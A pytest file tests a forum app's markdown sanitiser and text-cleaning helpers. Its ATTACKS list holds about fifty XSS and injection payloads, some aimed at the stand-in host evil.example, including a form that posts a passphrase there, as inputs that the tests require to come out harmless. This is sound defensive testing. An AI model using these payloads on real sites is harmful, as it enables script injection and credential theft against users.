"""What a member writes is stored as harmless markup, whatever it was disguised as."""

from __future__ import annotations

import re
import unicodedata
from html.parser import HTMLParser
from typing import Final

import html5lib
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from app.core import text
from app.core.text import UnsafeMarkupError, clean, clean_line, excerpt, fold, render

INLINE: Final = {"a", "br", "code", "em", "s", "strong"}
BLOCK: Final = {"blockquote", "h3", "h4", "h5", "hr", "li", "ol", "p", "pre", "ul"}
TABLE: Final = {"table", "tbody", "td", "th", "thead", "tr"}

ATTACKS: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=a&gt;'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example/x)",
    "[x](/\\evil.example)",
    "[x](/%09/evil.example)",
    "[x](\\\\evil.example)",
    "[x](http:evil.example)",
    '[x](https://evil.example/ "onmouseover=alert(1)")',
    "![x](https://evil.example/pixel.png)",
    "![x](/attachments/1)",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    '<https://evil.example/"onmouseover=alert(1)>',
    "<javascript:alert(1)>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=passphrase></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    '```html" onmouseover=alert(1)\nx\n```',
    '```"><script>alert(1)</script>\nx\n```',
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: https://evil.example 'a\" onclick=\"b'",
    "1. x\n{: onclick=alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\u202escript>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<a name=x id=y class=z href='/ok' onclick=alert(1)>x</a>",
    "| a | b |\n|---|:-:|\n| <b onclick=x>c</b> | d |",
    "`<script>alert(1)</script>`",
    "</p></div><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<object data=//evil.example></object><embed src=//evil.example>",
)

SIGNS: Final = tuple("<>\"'&=`*_[]()!#|\n\t \\\u00a0\u200b\u202e\x00üß漢")
STUMPS: Final = (
    *("~~", "\n\n", "&#", "&quot;", "&nbsp;", "- ", "1. ", "> ", "---\n", "```\n", "<!--", "-->"),
    *("| a |\n|--|\n| b |\n", "]]>", "</", "javascript:", "https://a.example", "/boards/x"),
    *("href", "onclick", "script", "a", "b"),
)
PIECES: Final = st.sampled_from((*ATTACKS, *SIGNS, *STUMPS))
TEXTS: Final = st.lists(st.one_of(PIECES, st.text(max_size=8)), max_size=14).map("".join)


class Reader(HTMLParser):
    """Takes markup apart and keeps whatever must not be there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in INLINE | BLOCK | TABLE:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if (tag, name) == ("ol", "start") and (value or "").isdecimal():
                continue
            if (tag, name) == ("a", "href") and re.fullmatch(r"/([^/\\\s].*)?", value or ""):
                continue
            self.faults.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data}")

    unknown_decl = handle_decl


def faults(markup: str) -> list[str]:
    """What Python's parser and one that reads as browsers do find wrong with stored markup."""
    reader = Reader()
    reader.feed(markup)
    reader.close()
    found = reader.faults
    for element in html5lib.parseFragment(markup, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str):
            found.append(f"no element: {element.text}")
            continue
        if element.tag not in INLINE | BLOCK | TABLE | {"DOCUMENT_FRAGMENT"}:
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            if (element.tag, name) not in {("a", "href"), ("ol", "start")}:
                found.append(f"{element.tag} {name}={value}")
            elif name == "href" and not re.fullmatch(r"/([^/\\\s].*)?", value):
                found.append(f"href={value}")
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_known_attack_is_stored_as_harmless_text(attack: str) -> None:
    for source in (attack, clean(attack)):
        rendered = render(source, lambda n: f"/leaving/abc/{n}")
        assert faults(rendered.html) == []
        assert faults(render(source).html) == []


@settings(max_examples=600)
@given(TEXTS)
@example("<a\x00>")
@example("[x](/a\u00a0b)")
@example("&zwnj;&NewLine;")
def test_no_text_whatever_makes_harmful_markup(source: str) -> None:
    try:
        rendered = render(clean(source), lambda n: f"/leaving/abc/{n}")
    except UnsafeMarkupError:
        return  # refused: nothing is stored
    assert faults(rendered.html) == []


@settings(max_examples=600)
@given(TEXTS)
def test_the_two_sanitisers_agree_about_every_clean_text(source: str) -> None:
    render(clean(source))  # raises UnsafeMarkupError where they disagree


@settings(max_examples=300)
@given(TEXTS)
def test_html_given_to_the_sanitisers_directly_comes_out_harmless(source: str) -> None:
    first = text.bleach.clean(
        source,
        tags=text.TAGS,
        attributes=text._keeps,  # noqa: SLF001 - the rule itself is what is tried
        protocols=["https"],
        strip_comments=True,
    )
    assert faults(text._nh3(first)) == []  # noqa: SLF001 - the second engine alone


def test_a_disagreement_of_the_sanitisers_refuses_the_text(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(text.bleach, "clean", lambda markup, **_: markup + "<b onclick=x>y</b>")
    with pytest.raises(UnsafeMarkupError):
        render("harmless")


@pytest.mark.parametrize(
    ("source", "markup"),
    [
        ("a *b* **c** ~~d~~ `e`", "<p>a <em>b</em> <strong>c</strong> <s>d</s> <code>e</code></p>"),
        ("# One\n\n#### Four", "<h3>One</h3>\n<h5>Four</h5>"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
        ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>'),
        ("```python\n<b>\n```", "<pre><code>&lt;b&gt;\n</code></pre>"),
        ("[home](/boards/abc)", '<p><a href="/boards/abc">home</a></p>'),
    ],
)
def test_markdown_means_what_people_expect(source: str, markup: str) -> None:
    assert render(source).html.strip() == markup


def test_foreign_links_lead_to_the_page_that_says_so() -> None:
    source = "[a](https://a.example/x?y=1&z=2) [b](/boards/b) [c](http://c.example)"
    rendered = render(source, lambda n: f"/leaving/abc/{n}")
    assert rendered.links == ("https://a.example/x?y=1&z=2", "http://c.example")
    assert re.findall(r'href="([^"]+)"', rendered.html) == [
        "/leaving/abc/0",
        "/boards/b",
        "/leaving/abc/1",
    ]


def test_a_preview_has_no_foreign_links() -> None:
    rendered = render("[a](https://a.example)")
    assert "href" not in rendered.html
    assert rendered.links == ("https://a.example",)


@given(st.text())
def test_cleaning_twice_changes_nothing(source: str) -> None:
    assert clean(clean(source)) == clean(source)
    assert clean_line(clean_line(source)) == clean_line(source)


@given(st.text())
def test_a_clean_text_has_no_controls_and_no_overrides(source: str) -> None:
    for sign in clean(source):
        assert sign in "\n\t" or unicodedata.category(sign) not in {"Cc", "Cs"}
        assert unicodedata.bidirectional(sign) not in {
            "LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI",
        }  # fmt: skip
    assert "\n" not in clean_line(source)


def test_nul_and_overrides_are_taken_out_and_line_ends_made_one() -> None:
    assert clean("a\x00b\u202ec\u2066d\ufeff\r\ne\rf\x07") == "abcd\ne\nf"


def test_marks_are_stacked_no_higher_than_any_script_needs() -> None:
    assert clean("a" + "\u0336" * 40) == "a" + "\u0336" * 6


def test_a_line_is_one_line_without_ends() -> None:
    assert clean_line("  one\n\ttwo \u2028 three ") == "one two three"


def test_search_compares_without_case_accents_and_compatibility_forms() -> None:
    assert fold("ÉCOLE") == fold("école") == "ecole"
    assert fold("ﬁne") == "fine"
    assert fold("STRASSE") == fold("Straße")


def test_an_excerpt_is_cut_at_a_word_and_says_so() -> None:
    assert excerpt("one two three", 20) == "one two three"
    assert excerpt("one two three", 9) == "one two …"
    assert excerpt("one\n\n two", 20) == "one two"


@pytest.mark.parametrize(
    "kept", ["The quick brown fox, 0123456789.", "Ünïcödé 漢字 עברית", "👩‍👩‍👧 naïve xyz"]
)
def test_cleaning_leaves_what_people_write_as_it_is(kept: str) -> None:
    assert clean(kept) == kept
    assert clean_line(kept) == kept
